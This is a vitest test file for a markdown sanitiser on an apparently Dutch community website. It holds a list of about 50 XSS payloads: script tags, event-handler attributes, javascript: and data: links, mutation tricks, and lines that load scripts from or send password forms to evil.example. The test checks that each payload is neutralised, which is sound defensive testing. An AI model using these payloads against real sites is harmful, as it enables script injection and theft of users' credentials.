import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/lib/markdown.server";

// Payloads from the usual XSS cheat sheets, in markdown and raw HTML, that must all come out harmless.
const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"x\" onerror=\"alert(1)\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\"&#106;avascript:alert(1)\">x</a>",
  "<a href=\"java\tscript:alert(1)\">x</a>",
  "<a href=\" javascript:alert(1)\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:alert(1))",
  "![x](javascript:alert(1))",
  "![x\"onerror=\"alert(1)](https://example.org/a.png)",
  "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
  "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</p>",
  "<style>body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<base href=\"//evil.example/\">",
  "<form action=\"//evil.example\"><input name=password></form>",
  "<button formaction=\"javascript:alert(1)\">x</button>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<video><source onerror=\"alert(1)\"></video>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "`<script>alert(1)</script>`\n\n```\n<script>alert(1)</script>\n```",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<a href=\"//evil.example\">protocol-relative</a>",
  "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<x onclick=alert(1)>custom element</x>",
  "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
];

function assertHarmless(html: string) {
  // Attribute values are text once quoted; look at the markup around them.
  const markup = html.replace(/="[^"]*"/g, '=""');
  expect(markup).not.toMatch(/<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|details|video|audio|source|marquee|template|noscript|body|img|x)\b/i);
  expect(markup).not.toMatch(/\son[a-z]+\s*=/i);
  expect(markup).not.toMatch(/\sstyle\s*=/i);
  expect(markup).not.toMatch(/\s(background|formaction|srcdoc|src)\s*=/i);
  for (const m of html.matchAll(/href="([^"]*)"/g)) {
    const href = m[1].replace(/&amp;/g, "&").toLowerCase().replace(/\s/g, "");
    // Either a relative address on this site or one of the safe schemes; never //other.host.
    const hasScheme = /^[a-z][a-z0-9+.-]*:/.test(href);
    expect(hasScheme ? /^(https?|mailto):/.test(href) : !href.startsWith("//"), href).toBe(true);
  }
}

describe("markdown sanitiser", () => {
  it("has a corpus of at least 40 payloads", () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
  });

  it.each(payloads.map((p, i) => [i, p]))("makes payload %i harmless: %s", (_i, payload) => {
    assertHarmless(renderMarkdown(payload as string));
    // Inside ordinary text too.
    assertHarmless(renderMarkdown(`Hallo **allemaal**\n\n${payload}\n\n- een\n- twee`));
  });

  it("keeps ordinary markdown", () => {
    const html = renderMarkdown("## Wat we doen\n\n**Samen** koken met *buren*.\n\n- soep\n- brood\n\n1. eerst\n2. dan\n\n> citaat\n\n`code`");
    expect(html).toContain("<h2>Wat we doen</h2>");
    expect(html).toContain("<strong>Samen</strong>");
    expect(html).toContain("<em>buren</em>");
    expect(html).toMatch(/<ul>\s*<li>soep<\/li>/);
    expect(html).toMatch(/<ol>\s*<li>eerst<\/li>/);
    expect(html).toContain("<blockquote>");
    expect(html).toContain("<code>code</code>");
  });

  it("marks every link nofollow noopener and keeps safe schemes", () => {
    const html = renderMarkdown("[site](https://example.org) en <https://example.net> en [mail](mailto:a@example.org)");
    const links = [...html.matchAll(/<a [^>]*>/g)].map((m) => m[0]);
    expect(links).toHaveLength(3);
    for (const link of links) {
      expect(link).toMatch(/rel="[^"]*nofollow[^"]*"/);
      expect(link).toMatch(/rel="[^"]*noopener[^"]*"/);
    }
    expect(html).toContain('href="https://example.org"');
    expect(html).toContain('href="mailto:a@example.org"');
  });

  it("turns an h1 into an h2 (the page title is the only h1) and images into links", () => {
    expect(renderMarkdown("# Kop")).toContain("<h2>Kop</h2>");
    const html = renderMarkdown("![een foto](https://example.org/foto.jpg)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://example.org/foto.jpg"');
    expect(html).toContain("een foto");
  });

  it("drops the link but keeps the text when the address is unsafe", () => {
    const html = renderMarkdown("[klik hier](javascript:alert(1))");
    expect(html).not.toContain("href");
    expect(html).toContain("klik hier");
  });
});
